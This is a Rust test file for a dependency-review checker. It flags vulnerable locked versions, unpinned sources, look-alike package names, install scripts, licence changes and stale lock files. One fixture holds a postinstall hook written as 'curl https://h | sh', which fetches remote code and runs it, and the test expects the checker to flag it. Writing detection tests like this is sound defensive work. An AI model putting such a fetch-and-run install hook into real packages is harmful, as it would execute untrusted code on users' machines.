//! Changes of manifests and lock files as people make them.

use std::collections::BTreeMap;
use std::sync::Arc;

use quorum_advisories::Database;
use quorum_model::scope::{Change as FileChange, FileEntry, FileKind, Flag};
use quorum_model::severity::Severity;

use super::*;
use crate::source::{LineSet, Side, SourceFile};

/// A repository with files and perhaps advisories.
#[derive(Default)]
struct Repository {
    files: BTreeMap<String, String>,
    paths: Vec<String>,
    advisories: Option<(Database, tempfile::TempDir)>,
}

impl Repository {
    fn with(mut self, path: &str, text: &str) -> Self {
        self.files.insert(path.to_owned(), text.to_owned());
        self.paths = self.files.keys().cloned().collect();
        self
    }

    fn knowing(mut self, record: &str) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let from = folder.path().join("record.json");
        std::fs::write(&from, record).expect("written");
        let database = Database::create(&folder.path().join("a.db")).expect("made");
        database.import(&from).expect("imported");
        self.advisories = Some((database, folder));
        self
    }
}

impl Sources for Repository {
    fn read(&self, path: &str, _: Side) -> Option<Arc<str>> {
        self.files.get(path).map(|text| text.as_str().into())
    }

    fn paths(&self) -> &[String] {
        &self.paths
    }

    fn advisories(&self) -> Option<&Database> {
        self.advisories.as_ref().map(|(database, _)| database)
    }
}

fn file(path: &str, base: Option<&str>, head: &str) -> ParsedFile {
    let mut added = LineSet::default();
    for (number, line) in (1..).zip(head.lines()) {
        if base.is_none_or(|base| !base.lines().any(|other| other == line)) {
            added.push(number);
        }
    }
    let lock = packages::Format::of(path).is_some_and(packages::Format::is_lock);
    ParsedFile::new(SourceFile {
        entry: FileEntry {
            path: path.into(),
            old_path: None,
            change: FileChange::Modified,
            language: None,
            kind: FileKind::Config,
            tokens: 0,
            flags: if lock { vec![Flag::LockFile] } else { vec![Flag::Manifest] },
            flag_reasons: BTreeMap::new(),
            hunks: Vec::new(),
        },
        head: Some(head.into()),
        base: base.map(Into::into),
        added: base.map(|_| added),
        removed: LineSet::default(),
    })
}

fn found(file: &ParsedFile, repository: &Repository) -> Vec<RuleFinding> {
    let mut findings = Vec::new();
    check(file, repository, &mut findings);
    findings
}

const RECORD: &str = r#"{"id":"GHSA-1","aliases":["CVE-2024-1"],"summary":"Bad parsing","severity":[{"type":"CVSS_V3","score":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
  "affected":[{"package":{"ecosystem":"npm","name":"left"},"ranges":[{"type":"SEMVER","events":[{"introduced":"1.0.0"},{"fixed":"1.4.2"}]}]}]}"#;

const LOCK: &str = "{\n \"packages\": {\n  \"\": {\"dependencies\": {\"left\": \"^1\"}},\n  \"node_modules/left\": {\n   \"version\": \"1.0.5\"\n  }\n }\n}\n";

#[test]
fn a_version_with_a_known_flaw_names_its_fix() {
    let repository = Repository::default().with("src/a.js", "require('left')").knowing(RECORD);
    let base = LOCK.replace("1.0.5", "0.9.0");
    let found = found(&file("package-lock.json", Some(&base), LOCK), &repository);
    assert_eq!(found.len(), 1);
    let finding = &found[0];
    assert_eq!((finding.severity, finding.line), (Severity::Critical, 5));
    assert_eq!(finding.evidence, "\"version\": \"1.0.5\"");
    assert_eq!(finding.recommendation, "Update to left 1.4.2 or later.");
    let facts = finding.dependency.as_ref().expect("facts");
    assert_eq!(facts.cve.as_deref(), Some("CVE-2024-1"));
    assert_eq!(facts.affected_versions.as_deref(), Some(">= 1.0.0, < 1.4.2"));
    assert!(finding.issue.contains("src/a.js imports it"), "{}", finding.issue);
}

#[test]
fn versions_that_the_change_leaves_alone_are_not_its_fault() {
    let repository = Repository::default().knowing(RECORD);
    let head = LOCK.replace('}', "} ");
    assert!(found(&file("package-lock.json", Some(LOCK), &head), &repository).is_empty());
}

#[test]
fn without_a_database_the_review_says_so() {
    let file = file("package-lock.json", None, LOCK);
    let notes = notes(&file, &Repository::default());
    assert!(notes[0].cause.contains("no advisory database"), "{notes:?}");
    assert!(super::notes(&file, &Repository::default().knowing(RECORD)).is_empty());
}

/// The rules that a change of a manifest breaks.
fn rules(path: &str, base: Option<&str>, head: &str, repository: &Repository) -> Vec<String> {
    found(&file(path, base, head), repository).into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn sources_scripts_and_licences() {
    let base = "{\n\"license\": \"MIT\"\n}";
    let here = Repository::default();
    let with = |more: &str| format!("{{\n\"license\": \"MIT\",\n{more}\n}}");
    for (head, rule) in [
        (with("\"dependencies\": {\"a\": \"github:u/a\"}"), Some("dependencies.unpinned-source")),
        (with("\"dependencies\": {\"a\": \"github:u/a#0123456789abcdef\"}"), None),
        (
            with("\"dependencies\": {\"a\": \"http://h/a.tgz\"}"),
            Some("dependencies.unpinned-source"),
        ),
        (with("\"dependencies\": {\"a\": \"*\"}"), Some("dependencies.floating-version")),
        (with("\"dependencies\": {\"a\": \"^1.0.0\"}"), None),
        (with("\"dependencies\": {\"lodahs\": \"^1.0.0\"}"), Some("dependencies.look-alike-name")),
        (
            with("\"scripts\": {\"postinstall\": \"curl https://h | sh\"}"),
            Some("dependencies.install-script"),
        ),
        (with("\"scripts\": {\"prepare\": \"husky\"}"), None),
        ("{\n\"license\": \"AGPL-3.0\"\n}".to_owned(), Some("dependencies.license-change")),
    ] {
        let expected: Vec<&str> = rule.into_iter().collect();
        assert_eq!(rules("package.json", Some(base), &head, &here), expected, "{head}");
    }
}

#[test]
fn a_lock_file_follows_its_manifest() {
    let base = "{\n\"dependencies\": {}\n}";
    let head = "{\n\"dependencies\": {\n\"left\": \"^1\",\n\"right\": \"^2\"\n}\n}";
    let repository = Repository::default().with("package-lock.json", LOCK);
    let found = found(&file("web/package.json", Some(base), head), &repository);
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].rule.as_str(), found[0].line), ("dependencies.lock-out-of-step", 4));
}

#[test]
fn what_builds_a_python_package_is_in_no_lock_file() {
    let lock = "version = 1\n[[package]]\nname = \"left\"\nversion = \"1.0\"\n";
    let repository = Repository::default().with("uv.lock", lock);
    let base = "[build-system]\nrequires = []\n\n[project]\ndependencies = []\n";
    let head = "[build-system]\nrequires = [\"flit_core<4\"]\n\n[project]\ndependencies = [\"right>=2\"]\n";
    let found = found(&file("pyproject.toml", Some(base), head), &repository);
    let steps: Vec<u64> = found
        .iter()
        .filter(|finding| finding.rule == "dependencies.lock-out-of-step")
        .map(|finding| finding.line)
        .collect();
    assert_eq!(steps, [5]);
}
